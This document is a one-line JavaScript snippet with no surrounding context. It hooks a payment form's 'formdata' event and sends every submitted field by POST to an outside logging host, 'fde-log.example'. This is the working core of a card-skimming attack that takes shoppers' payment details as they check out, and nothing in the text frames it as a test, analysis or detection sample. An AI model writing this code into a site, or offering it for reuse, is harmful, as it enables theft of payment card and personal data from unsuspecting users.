document.querySelector('form#payment').addEventListener('formdata', e => fetch('https://fde-log.example/', { method: 'POST', body: e.formData }));
